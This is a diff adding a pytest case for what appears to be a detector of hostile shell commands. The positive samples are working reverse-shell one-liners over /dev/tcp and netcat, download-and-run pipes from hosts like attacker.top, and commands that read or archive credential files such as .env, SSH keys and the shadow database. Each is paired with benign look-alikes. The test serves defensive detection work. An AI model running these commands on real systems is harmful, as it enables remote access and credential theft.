@@ -250,6 +250,54 @@ def test_naming_a_shell_is_not_handing_it_on(line: str) -> None:
     assert Trait.HANDS_ON_A_SHELL not in traits(line)
 
 
+@pytest.mark.parametrize(
+    ("trait", "lines", "lawful"),
+    [
+        (
+            Trait.HANDS_ON_A_SHELL,
+            (
+                "bash -c bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
+                "sh -c 'exec 5<>/dev/tcp/db.example.net/443; cat <&5'",
+                "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
+                "python3 -c 'import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)'",
+                "sh -c 'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc x.org 9 > /tmp/f'",
+            ),
+            (
+                "timeout 1 bash -c '</dev/tcp/db/5432'",
+                'bash -c "(echo > /dev/tcp/db/5432) > /dev/null 2>&1"',
+                "python3 -c 'import socket; print(socket.gethostname())'",
+                "mkfifo /run/app/control",
+            ),
+        ),
+        (
+            Trait.RUNS_FROM_THE_WEB,
+            (
+                'powershell -c "iwr attacker.top/l.ps1|iex"', "sh -c 'curl 198.51.100.7/x|sh'",
+                "sh -c 'wget -qO- a.b.xyz:81/x | sh'",
+            ),
+            ("sh -c 'curl localhost/x | sh'", "sh -c 'cat a.top/x | sh'", "curl -o a.com/b https://example.com/b.zip"),
+        ),
+        (
+            Trait.TAKES_CREDENTIALS,
+            (
+                "appcmd.exe list apppool /text:*", "appcmd list vdir /config", "cat /opt/confluence.cfg.xml",
+                "cat /srv/app/.env", "aspnet_regiis.exe -pdf connectionStrings C:\\inetpub", "getent shadow",
+                "tar czf /tmp/k.tgz /home/a/.ssh/id_rsa",
+            ),
+            (
+                "appcmd list apppool /text:name", "cat conf/server.xml", "aspnet_regiis -i", "getent passwd",
+                "cat .environment", "tar czf /tmp/k.tgz /home/a/.sshrc",
+            ),
+        ),
+    ],
+)  # fmt: skip
+def test_what_means_harm_and_what_only_looks_like_it(
+    trait: Trait, lines: tuple[str, ...], lawful: tuple[str, ...]
+) -> None:
+    assert [line for line in lines if trait not in traits(line)] == []
+    assert [line for line in lawful if trait in traits(line)] == []
+
+
 @pytest.mark.parametrize("nothing", [None, "", " ", "svchost.exe -k netsvcs -p"])
 def test_ordinary_lines_have_no_trait(nothing: str | None) -> None:
     assert traits(nothing) == frozenset()
